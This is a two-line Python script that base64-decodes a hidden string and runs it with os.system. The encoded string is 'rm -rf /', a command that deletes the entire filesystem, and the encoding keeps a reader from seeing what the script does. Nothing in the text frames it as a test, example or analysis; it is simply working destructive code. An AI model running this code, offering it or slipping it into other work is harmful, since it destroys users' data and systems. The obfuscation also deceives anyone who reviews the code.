import base64, os
os.system(base64.b64decode("cm0gLXJmIC8=").decode())
